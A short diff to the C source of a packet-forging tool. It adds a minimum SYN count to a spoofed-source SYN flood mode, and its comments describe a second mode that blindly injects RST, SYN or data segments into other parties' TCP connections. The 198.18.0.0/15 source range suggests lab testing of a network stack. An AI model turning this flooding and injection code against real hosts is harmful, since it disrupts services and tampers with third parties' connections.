@@ -3,7 +3,8 @@
  * Segments that nobody asked for, as fast as a packet socket takes them:
  *
  *	forge flood DEVICE MAC_FROM MAC_TO IP_TO PORT_TO SECONDS
- *		SYNs from addresses that nobody has (198.18.0.0/15), every number a new one
+ *		SYNs from addresses that nobody has (198.18.0.0/15), every number a new one;
+ *		on a slow machine for longer, until it has sent LEAST
  *	forge blind DEVICE MAC_FROM MAC_TO IP_FROM PORT_FROM IP_TO PORT_TO rst|syn|data COUNT
  *		guesses into a connection of others: sequence and acknowledgment numbers at random
  *
@@ -26,6 +27,7 @@
 
 #define BATCH	32
 #define DATA	100
+#define LEAST	1024	/* SYNs of a flood */
 
 #define FIN	0x01
 #define SYN	0x02
@@ -168,7 +170,7 @@ static int flood(char **a)
 		memcpy(frames[i].opt, syn_options, sizeof(syn_options));
 		iovs[i].iov_len = 14 + 20 + 40;
 	}
-	while (now() < end) {
+	while (now() < end || sent < LEAST) {
 		for (i = 0; i < BATCH; i++) {
 			frames[i].saddr = htonl(0xc6120000 | (rnd() & 0x1ffff));
 			frames[i].sport = htons(1024 + rnd() % 64000);
